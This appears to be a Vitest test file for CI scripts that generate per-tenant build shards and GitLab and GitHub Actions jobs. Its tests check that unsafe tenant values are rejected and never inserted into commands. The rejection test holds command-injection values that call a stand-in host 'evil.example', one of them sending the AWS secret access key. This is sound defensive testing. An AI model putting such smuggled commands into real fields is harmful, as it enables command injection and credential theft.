import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, expect, it } from 'vitest'

const dir = mkdtempSync(path.join(tmpdir(), 'ci-'))
afterAll(() => rmSync(dir, { recursive: true }))
const file = (name: string, value: unknown) => {
  writeFileSync(path.join(dir, name), JSON.stringify(value))
  return path.join(dir, name)
}
const run = (script: string, ...args: string[]) =>
  execFileSync(process.execPath, [`docs/ci/${script}`, ...args], { encoding: 'utf8', stdio: 'pipe' })

const TENANTS = [
  { name: 'haihui', platform: 'https://platform.example', domain: 'fair.example.com', shards: 3 },
  { name: 'seto', platform: 'https://platform.example', domain: 'seto.example.com' },
]

it('lists one build per shard, all with the same time', () => {
  const line = run('matrix.mjs', file('tenants.json', TENANTS), '')
  const builds: { name: string; shard: string; now: string }[] = JSON.parse(line.replace(/^list=/, ''))
  expect(builds.map(({ name, shard }) => `${name} ${shard}`)).toEqual([
    'haihui 1/3',
    'haihui 2/3',
    'haihui 3/3',
    'seto 1/1',
  ])
  expect(new Set(builds.map(({ now }) => now)).size).toBe(1)
  expect(builds[0]?.now).toMatch(/:00:00\.000Z$/)
})

it('selects one tenant by its name, and rejects an unknown name', () => {
  expect(run('matrix.mjs', file('tenants.json', TENANTS), 'seto')).not.toContain('haihui')
  expect(() => run('matrix.mjs', file('tenants.json', TENANTS), 'none')).toThrow(/No tenant is named none/)
})

it('generates GitLab jobs in which each merge waits for its own shards', () => {
  const pipeline = JSON.parse(run('matrix.mjs', file('tenants.json', TENANTS), '--gitlab'))
  expect(pipeline.haihui.needs).toEqual(['haihui 1/3', 'haihui 2/3', 'haihui 3/3'])
  expect(pipeline.haihui.script).toContain(
    'npm run build:merge -- --from shard-1 --from shard-2 --from shard-3 --out dist',
  )
  expect(pipeline.haihui.script).toContain(
    'npm run release -- --site dist --to "$RELEASE_TO" $RELEASE_FLAGS --tenant "$SITE_TENANT" --keep-release "$keep" --report release.json',
  )
  expect(pipeline['haihui rollback']).toMatchObject({ when: 'manual', needs: [] })
  expect(pipeline['haihui rollback'].script.join('\n')).toContain('--domain "$SITE_DOMAIN" --rollback')
  expect(pipeline['haihui rollback'].variables.SITE_DOMAIN).toBe('fair.example.com')
  expect(pipeline['seto 1/1'].script[1]).toContain('--domain "$SITE_DOMAIN" --shard "$SITE_SHARD"')
  expect(pipeline['seto 1/1'].variables).toMatchObject({ SITE_DOMAIN: 'seto.example.com', SITE_SHARD: '1/1' })
})

it.each([
  ['name', { name: 'a; curl evil.example' }],
  ['name', { name: '../a' }],
  ['platform', { platform: 'https://p.example/$(id)' }],
  ['platform', { platform: 'http://p.example' }],
  ['tenant', { tenant: '1001"; curl evil.example' }],
  ['role', { role: 'arn:aws:iam::123:role/x; curl evil.example' }],
  ['domain', { domain: 'x"; curl -d "$AWS_SECRET_ACCESS_KEY" evil.example; "' }],
  ['domain', { domain: undefined }],
  ['shards', { shards: 0 }],
  ['shards', { shards: '3' }],
  ['extra', { extra: 1 }],
])('refuses a tenant with an invalid %s: %j', (field, wrong) => {
  const tenants = file('wrong.json', [TENANTS[1], { ...TENANTS[0], ...wrong }])
  for (const form of ['', '--gitlab'])
    expect(() => run('matrix.mjs', tenants, form)).toThrow(`tenants.json, tenant 2: invalid ${field}`)
})

it('refuses two tenants with the same name', () => {
  expect(() => run('matrix.mjs', file('twice.json', [TENANTS[0], TENANTS[0]]))).toThrow(
    'two tenants have the same name',
  )
})

it('inserts no value of tenants.json and no input into a command', () => {
  const pipeline = JSON.parse(run('matrix.mjs', file('tenants.json', TENANTS), '--gitlab'))
  const { default: _, stages: __, ...jobs } = pipeline as Record<string, { script: string[]; after_script?: string[] }>
  const commands = Object.values(jobs).flatMap(({ script, after_script = [] }) => [...script, ...after_script])
  expect(commands.length).toBeGreaterThan(10)
  expect(commands.filter((command) => /haihui|seto|platform\.example/.test(command))).toEqual([])

  const lines = readFileSync('docs/ci/github-actions.yml', 'utf8').split('\n')
  const indent = (line: string) => line.search(/\S/)
  let within = Number.POSITIVE_INFINITY
  const ofCommands = lines.filter((line) => {
    if (/^\s*(- )?run:/.test(line)) within = indent(line)
    else if (line.trim() !== '' && indent(line) <= within) within = Number.POSITIVE_INFINITY
    return within < Number.POSITIVE_INFINITY
  })
  expect(ofCommands.length).toBeGreaterThan(10)
  expect(ofCommands.filter((line) => line.includes('${{'))).toEqual([])
  expect(lines).toContain('permissions: { contents: read }')
})

it('summarises the report of a build', () => {
  const pages = { total: 7, new: 1, changed: 2, reused: 4, removed: 0 }
  const skipped = [{ call: 'news', id: '1', field: 'publishTime', reason: 'no time' }]
  const reported = run(
    'summary.mjs',
    file('report.json', {
      domain: 'a.example',
      pages,
      timings: { total: 3200 },
      peakMb: 500,
      skipped: skipped,
      warnings: ['Mind'],
    }),
  )
  expect(reported).toContain('### a.example: 7 pages')
  expect(reported).toMatch(/1 new, 2 changed, 4 unchanged, 0 removed, 3.2 s, 500 MB/)
  expect(reported).toContain('**1 skipped**')
  expect(reported).toContain('- Mind')
})
